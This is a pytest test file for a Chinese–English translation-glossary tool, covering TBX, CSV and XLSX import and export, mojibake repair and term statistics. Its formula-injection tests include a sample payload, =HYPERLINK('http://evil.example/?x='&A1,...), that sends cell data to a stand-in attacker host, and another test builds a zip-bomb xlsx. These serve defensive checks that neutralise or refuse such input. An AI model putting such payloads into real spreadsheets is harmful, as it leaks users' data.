"""Glossary exchange: TBX and CSV export/import round trips, the real Heartsome termbase, stats."""

import shutil
import xml.etree.ElementTree as ET
from collections import Counter
from pathlib import Path

import pytest

from bipub.findings import BipubError
from bipub.formats import TERMBASES
from bipub.formats.glossary_csv import neutralise, restore
from bipub.terms.glossary import load_glossary
from bipub.terms.model import COLUMNS, Term
from bipub.terms.termbase import export, import_file
from bipub.terms.usage import candidate_ngrams, stats
from paths import CORPUS

ROOT = Path(__file__).resolve().parents[2]
FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "glossary"
HEARTSOME = CORPUS / "interop/heartsome_ImportTBXTest.en-zh-CN.tbx"


def content(glossary):
    return [tuple(getattr(t, c) for c in COLUMNS) for t in glossary.terms]


@pytest.fixture
def project(tmp_path):
    """A copy of the real project's glossary."""
    shutil.copytree(ROOT / "glossary", tmp_path / "glossary")
    return tmp_path


@pytest.mark.parametrize("fmt", ["tbx", "csv"])
def test_export_then_import_gives_back_the_same_glossary(project, tmp_path, fmt):
    out = export(project, fmt, None)
    assert out == project / "output" / f"glossary.{fmt}"
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    written, findings = import_file(fresh, out)
    assert written == fresh / "glossary" / f"imported-glossary.tsv"
    assert [f for f in findings if f.severity != "info"] == []
    original, _ = load_glossary(project / "glossary")
    back, _ = load_glossary(fresh / "glossary")
    assert content(back) == content(original)


def test_tbx_export_is_tbx_basic_with_status_variants_and_forbidden(project):
    root = ET.parse(export(project, "tbx", None)).getroot()
    assert root.tag == "martif" and root.get("type") == "TBX-Basic-V1"
    entry = next(e for e in root.iter("termEntry") if e.find("langSet/tig/term").text == "中联重科")
    assert entry.find("descrip[@type='subjectField']").text == "company"
    XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"
    zh, en = entry.findall("langSet")
    assert (zh.get(XML_LANG), en.get(XML_LANG)) == ("zh-CN", "en")
    assert [(t.find("term").text, t.find("termNote[@type='administrativeStatus']").text) for t in en.findall("tig")] == [
        ("Zoomlion", "preferredTerm-admn-sts"),
        ("China Unicom Heavy Industry", "deprecatedTerm-admn-sts"),
        ("Zhonglian Heavy Industry", "deprecatedTerm-admn-sts"),
    ]
    assert zh.findall("tig")[1].find("termNote[@type='termType']").text == "variant"


def test_import_tbx_v3(tmp_path):
    path, findings = import_file(tmp_path, FIXTURES / "termbase-v3.tbx")
    glossary, _ = load_glossary(path.parent)
    assert [(t.zh, t.en, t.variants, t.forbidden, t.status, t.type, t.note) for t in glossary.terms] == [
        ("三一", "SANY", ("三一重工",), ("Sany",), "approved", "company", ""),
        ("世界计算大会", "World Computing Conference", (), (), "proposed", "term", "Not confirmed by the organiser."),
    ]
    assert [(f.code, f.line) for f in findings] == [("glossary.empty-field", 21)]  # c3 has no English


def test_import_never_overwrites_silently(tmp_path):
    import_file(tmp_path, FIXTURES / "termbase-v3.tbx")
    target = tmp_path / "glossary" / "imported-termbase-v3.tsv"
    target.write_text(target.read_text(encoding="utf-8") + "卡脖子\tchokepoint\t\t\tapproved\tterm\teditor's addition\n", encoding="utf-8")
    with pytest.raises(BipubError, match="imported-termbase-v3.tsv already exists"):
        import_file(tmp_path, FIXTURES / "termbase-v3.tbx")
    assert "editor's addition" in target.read_text(encoding="utf-8")
    import_file(tmp_path, FIXTURES / "termbase-v3.tbx", overwrite=True)
    assert "editor's addition" not in target.read_text(encoding="utf-8")


@pytest.mark.skipif(not HEARTSOME.exists(), reason="shared corpus not available")
def test_real_heartsome_termbase_imports_with_findings(tmp_path):
    path, findings = import_file(tmp_path, HEARTSOME)
    codes = Counter(f.code for f in findings)
    assert codes["glossary.mojibake"] == 24
    assert codes["glossary.stray-apostrophe"] == 4
    assert all(f.line for f in findings)  # every finding points at its termEntry
    glossary, load_findings = load_glossary(path.parent)
    assert [f for f in load_findings if f.severity == "error"] == []
    assert len(glossary) == 314
    text = path.read_text(encoding="utf-8")
    assert "ÊÓÆµ" not in text and "测'试" not in text  # no silent garbage
    repaired = glossary.lookup("视频对话时用于听对方的声音。")
    assert repaired.en == "For listening to your meeting partner during video calling." and repaired.status == "proposed"
    mojibake = next(f for f in findings if f.code == "glossary.mojibake")
    assert mojibake.file == str(HEARTSOME) and "repaired to" in mojibake.message


def test_stats_on_the_seed_lists_every_term_that_occurs(project):
    source = ROOT / "source" / "hunan-2021.md"
    report = stats(project, sources=[source], top=10)
    glossary, _ = load_glossary(project / "glossary")
    counts = Counter(m.term.zh for m in glossary.match(source.read_text(encoding="utf-8")))
    assert counts["湖南省工业和信息化厅"] == 4 and counts["首台（套）重大技术装备"] == 1 and counts["毛腾飞"] == 1
    lines = report.splitlines()
    for zh, n in counts.items():
        assert any(line.split()[:2] == [str(n), zh] for line in lines), zh
    assert "Candidates: frequent n-grams not in the glossary (top 10):" in report


def test_candidates_skip_glossary_terms_and_function_words():
    glossary, _ = load_glossary(FIXTURES / "good" / "glossary")
    text = "中联重科的塔机智能工厂。塔机智能工厂投产。先进制造业的塔机智能工厂。"
    cands = dict(candidate_ngrams([text], glossary, top=5))
    assert cands == {"塔机智能工厂": 3}


def test_import_tbx_with_ntig_term_groups(tmp_path):
    path, findings = import_file(tmp_path, FIXTURES / "termbase-ntig.tbx")
    glossary, _ = load_glossary(path.parent)
    assert [(t.zh, t.en, t.status) for t in glossary.terms] == [("塔机", "tower crane", "approved")]
    assert findings == []


def test_broken_xml_is_one_error_naming_file_and_line(tmp_path):
    with pytest.raises(BipubError, match=r"broken\.tbx:4: not well-formed XML"):
        import_file(tmp_path, FIXTURES / "broken.tbx")
    assert not (tmp_path / "glossary").exists()


# ---------------------------------------------------------------- the termbase registry: TBX, CSV, XLSX

HOSTILE = [
    Term("中联重科", "Zoomlion", ("中联",), ("China Unicom Heavy Industry", "Zhonglian Heavy Industry"), "approved",
         note='=HYPERLINK("http://evil.example/?x="&A1,"click")', type="company"),
    Term("负增长", "-0.5% growth", (), ("+growth",), "proposed", note="@SUM(A1:A9)"),
    Term("引号", "'=already quoted", (), (), "approved", note="\tTab first"),
]


@pytest.mark.parametrize("fmt", TERMBASES.names())
def test_every_termbase_format_gives_back_what_it_wrote(tmp_path, fmt):
    termbase = TERMBASES.get(fmt)
    path = tmp_path / f"g{termbase.extensions[0]}"
    terms, _ = load_glossary(ROOT / "glossary")
    path.write_bytes(termbase.write(terms.terms))
    back, findings = termbase.read(path, path.name)
    assert [f for f in findings if f.severity != "info"] == []
    assert [tuple(getattr(t, c) for c in COLUMNS) for t in back] == content(terms)


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-5%", "'-5%"), ("@SUM(A1)", "'@SUM(A1)"), ("\rx", "'\rx"),
    ("'=x", "''=x"), ("Zoomlion", "Zoomlion"), ("'quoted'", "'quoted'"), ("a=b", "a=b"),
])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_restored(cell, written):
    assert neutralise(cell) == written
    assert restore(written) == cell


def test_csv_export_runs_no_formula_and_reimports_exactly(tmp_path):
    csv_file = tmp_path / "g.csv"
    csv_file.write_bytes(TERMBASES.get("csv").write(HOSTILE))
    text = csv_file.read_text(encoding="utf-8-sig")
    assert "\n中联重科,Zoomlion," in text and ",\"'=HYPERLINK(" in text and "'-0.5% growth" in text
    back, _ = TERMBASES.get("csv").read(csv_file, "g.csv")
    assert [(t.en, t.forbidden, t.note) for t in back] == [(t.en, t.forbidden, t.note.replace("\t", " ").strip())
                                                           for t in HOSTILE]


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "g.xlsx"
    path.write_bytes(TERMBASES.get("xlsx").write(HOSTILE))
    sheet = load_workbook(path).active
    assert [c.value for c in sheet[1]] == list(COLUMNS)
    assert {c.data_type for row in sheet.iter_rows() for c in row if c.value} == {"s"}
    back, _ = TERMBASES.get("xlsx").read(path, "g.xlsx")
    assert [(t.zh, t.en, t.note) for t in back][:2] == [(t.zh, t.en, t.note) for t in HOSTILE][:2]


def test_an_xlsx_formula_typed_by_an_editor_is_reported(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["Chinese", "English", "note"])
    wb.active.append(["塔机", "tower crane", "=1+1"])
    wb.save(tmp_path / "e.xlsx")
    terms, findings = TERMBASES.get("xlsx").read(tmp_path / "e.xlsx", "e.xlsx")
    assert [(t.zh, t.en, t.note, t.status) for t in terms] == [("塔机", "tower crane", "=1+1", "proposed")]
    assert [(f.code, f.line) for f in findings] == [("glossary.formula", 2)]


def test_an_xlsx_zip_bomb_is_refused_before_parsing(tmp_path):
    import zipfile

    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/big.xml", b"\0" * (300 * 1024 * 1024))
    with pytest.raises(BipubError, match=r"^bomb.xlsx: unpacks to 300 MB, over the 256 MB limit"):
        TERMBASES.get("xlsx").read(path, "bomb.xlsx")


def test_tbx_approved_only_leaves_forbidden_renderings_and_proposed_terms_out():
    data = TERMBASES.get("tbx").write(HOSTILE, approved_only=True)
    root = ET.fromstring(data)
    entries = root.findall(".//termEntry")
    assert [e.find("langSet/tig/term").text for e in entries] == ["中联重科", "引号"]
    statuses = [n.text for n in root.iter("termNote") if n.get("type") == "administrativeStatus"]
    assert "deprecatedTerm-admn-sts" not in statuses
    assert "Forbidden: China Unicom Heavy Industry | Zhonglian Heavy Industry" in entries[0].find("note").text


def test_tbx_v3_is_written_and_read_back(tmp_path):
    from bipub.formats.tbx import format_tbx

    path = tmp_path / "g.tbx"
    path.write_bytes(format_tbx(HOSTILE, version=3))
    root = ET.parse(path).getroot()
    assert root.tag == "{urn:iso:std:iso:30042:ed-2}tbx" and root.get("type") == "TBX-Basic"
    back, findings = TERMBASES.get("tbx").read(path, "g.tbx")
    assert findings == []
    assert [(t.zh, t.en, t.variants, t.forbidden, t.status) for t in back] == [
        (t.zh, t.en, t.variants, t.forbidden, t.status) for t in HOSTILE]


def test_glossary_export_and_import_go_through_the_termbase_registry(project, tmp_path):
    from click.testing import CliRunner

    from bipub.cli import main

    out = tmp_path / "g.xlsx"
    r = CliRunner().invoke(main, ["glossary", "export", "-C", str(project), "--format", "xlsx", "-o", str(out)])
    assert r.exit_code == 0, r.output
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    import_file(fresh, out)
    original, _ = load_glossary(project / "glossary")
    back, _ = load_glossary(fresh / "glossary")
    assert content(back) == content(original)
    tbx = tmp_path / "approved.tbx"
    r = CliRunner().invoke(main, ["glossary", "export", "-C", str(project), "--format", "tbx", "--approved-only",
                                  "-o", str(tbx)])
    assert r.exit_code == 0 and "deprecatedTerm-admn-sts" not in tbx.read_text(encoding="utf-8")


def test_translate_toolkit_reads_the_tbx_export_as_term_pairs(project):
    from translate.storage import tbx as tt_tbx

    out = export(project, "tbx", None)
    store = tt_tbx.tbxfile.parsefile(str(out))
    glossary, _ = load_glossary(project / "glossary")
    pairs = {(u.source, u.target) for u in store.units}
    assert {(t.zh, t.en) for t in glossary.terms} <= pairs
